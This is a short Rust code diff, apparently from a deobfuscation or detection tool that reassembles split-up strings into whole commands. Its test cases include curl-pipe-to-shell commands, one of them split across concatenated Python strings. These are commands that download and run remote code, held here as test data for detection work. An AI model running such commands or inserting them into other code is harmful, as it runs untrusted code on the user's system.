@@ -87,7 +87,7 @@ impl Vars {
             let sep = c.get(1)?.as_str();
             let items: Option<Vec<String>> = split_top(c.get(2)?.as_str(), ',')
                 .into_iter()
-                .map(|t| self.term(t))
+                .map(|t| self.evaluate(t))
                 .collect();
             return Some(items?.join(sep));
         }
@@ -302,7 +302,7 @@ mod tests {
             "curl -s http://x | bash"
         );
         assert_eq!(
-            join(r#"os.system("cu" + "rl x | " + 'sh')"#, Lang::Python),
+            join(r#"os.system("cu" + "rl x | " + "sh")"#, Lang::Python),
             r#"os.system("curl x | sh")"#
         );
         assert_eq!(
